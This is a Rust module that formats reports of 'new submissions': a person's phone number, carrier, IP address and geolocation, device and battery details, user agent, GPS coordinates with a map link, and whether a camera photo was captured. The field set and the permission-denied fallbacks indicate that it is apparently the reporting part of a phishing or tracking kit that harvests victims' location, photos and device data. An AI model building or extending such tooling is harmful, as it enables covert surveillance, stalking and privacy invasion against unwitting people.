/// Report rendering: pure functions from payload + geo data to message text.
use crate::domain::{GeoInfo, SubmissionPayload};
use chrono::{DateTime, TimeZone, Utc};
use serde_json::Value;

/// Photo values carrying an actual image start with this prefix.
pub const IMAGE_DATA_PREFIX: &str = "data:image";

const PERMISSION_DENIED: &str = "Permission Denied";

/// Render the full Markdown report. Total function: any combination of
/// absent fields falls back to "N/A" or the documented placeholder.
pub fn render_report(payload: &SubmissionPayload, geo: &GeoInfo) -> String {
    let device = payload.device_info.as_ref();
    let battery = device.and_then(|d| d.battery.as_ref());

    let charging = match battery {
        Some(b) => {
            if b.charging.unwrap_or(false) {
                "Yes"
            } else {
                "No"
            }
        }
        None => "N/A",
    };

    let level = battery
        .and_then(|b| b.level)
        .map(|l| format!("{l}%"))
        .unwrap_or_else(|| "N/A".to_string());

    format!(
        "\
📨 *New Submission*
📱 Mobile: {mobile}
📡 Operator: {operator}

🌐 *IP Information:*
🌐 IP Address: {ip}
📡 ISP: {org}
📍 City: {city}
🗺️ Region: {region}
🌍 Country: {geo_country}

📱 *Device Info:*
🔋 Charging: {charging}
🔌 Battery Level: {level}
🌐 Network Type: {network}
🕒 Time Zone: {timezone}
🖥️ User Agent: {user_agent}

📍 *Location:* {location}

📸 *Camera:* {camera}

🔗 *URL:* {url}
⏰ *Time:* {time}",
        mobile = full_mobile(payload),
        operator = or_na(payload.operator.as_deref()),
        ip = or_na(geo.ip.as_deref()),
        org = or_na(geo.org.as_deref()),
        city = or_na(geo.city.as_deref()),
        region = or_na(geo.region.as_deref()),
        geo_country = or_na(geo.country.as_deref()),
        charging = charging,
        level = level,
        network = or_na(
            device
                .and_then(|d| d.connection.as_ref())
                .and_then(|c| c.effective_type.as_deref())
        ),
        timezone = or_na(device.and_then(|d| d.timezone.as_deref())),
        user_agent = or_na(device.and_then(|d| d.user_agent.as_deref())),
        location = location_block(payload),
        camera = camera_status(payload.photo.as_deref()),
        url = or_na(device.and_then(|d| d.url.as_deref())),
        time = submission_time(payload.timestamp.as_ref()).format("%d/%m/%Y, %I:%M:%S %p"),
    )
}

/// Caption attached to a dispatched photo.
pub fn photo_caption(payload: &SubmissionPayload) -> String {
    format!(
        "📸 Photo from +{}{}",
        country_digits(payload),
        payload.mobile.as_deref().unwrap_or("user")
    )
}

/// `+<country><mobile>` with any '+' stripped from the country code.
/// Both parts default to the empty string.
fn full_mobile(payload: &SubmissionPayload) -> String {
    format!(
        "+{}{}",
        country_digits(payload),
        payload.mobile.as_deref().unwrap_or("")
    )
}

fn country_digits(payload: &SubmissionPayload) -> String {
    payload
        .country
        .as_deref()
        .unwrap_or("")
        .replace('+', "")
}

fn or_na(v: Option<&str>) -> &str {
    match v {
        Some(s) if !s.is_empty() => s,
        _ => "N/A",
    }
}

fn location_block(payload: &SubmissionPayload) -> String {
    let Some(loc) = payload.location.as_ref() else {
        return PERMISSION_DENIED.to_string();
    };
    let Some(lat) = loc.latitude else {
        return PERMISSION_DENIED.to_string();
    };

    let lon = loc
        .longitude
        .map(|l| l.to_string())
        .unwrap_or_else(|| "N/A".to_string());
    let accuracy = loc
        .accuracy
        .map(|a| format!("{}m", a.round()))
        .unwrap_or_else(|| "N/A".to_string());

    format!(
        "Latitude: {lat}\nLongitude: {lon}\nAccuracy: {accuracy}\n🌍 View on Map: https://maps.google.com/?q={lat},{lon}"
    )
}

fn camera_status(photo: Option<&str>) -> &'static str {
    match photo {
        Some(PERMISSION_DENIED) => PERMISSION_DENIED,
        Some(_) => "Captured ✓",
        None => "N/A",
    }
}

/// Submission time: epoch milliseconds, an RFC 3339 string, or now.
fn submission_time(ts: Option<&Value>) -> DateTime<Utc> {
    match ts {
        Some(v) => {
            if let Some(ms) = v.as_i64() {
                Utc.timestamp_millis_opt(ms).single().unwrap_or_else(Utc::now)
            } else if let Some(s) = v.as_str() {
                DateTime::parse_from_rfc3339(s)
                    .map(|dt| dt.with_timezone(&Utc))
                    .unwrap_or_else(|_| Utc::now())
            } else {
                Utc::now()
            }
        }
        None => Utc::now(),
    }
}
